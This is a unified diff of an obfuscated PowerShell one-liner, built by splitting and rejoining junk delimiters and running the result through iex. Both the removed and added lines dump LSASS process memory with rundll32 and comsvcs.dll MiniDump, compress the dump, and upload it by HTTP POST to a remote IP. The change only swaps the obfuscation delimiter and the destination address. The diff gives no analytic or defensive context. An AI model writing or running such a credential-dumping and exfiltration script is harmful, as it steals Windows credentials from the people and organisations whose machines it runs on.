@@ -1,6 +1,6 @@
-iex (('# init 0031 v0
+iex (('# task 7620 v0
 $p = Get-Process lsass
-rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $p.!Id C:\Users\Public\lsass.dmp full
+rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $p.Id## C:\Users\Publ##ic\lsass.dmp full
 Compress-Archive C:\Users\Public\lsass.dmp C:\Users\Public\l.zip
-Invoke-WebRequest -Uri http://203.0.113.200/u -Method Post -InFile C:\Users\!Public\l.zip
-' -split '!') -join '')
+##Invoke-WebRequest -Uri http://192.0.2.150/u -M##ethod Post -I##nFile C:\Users\Public\l.zip
+' -split '\#\#') -join '')
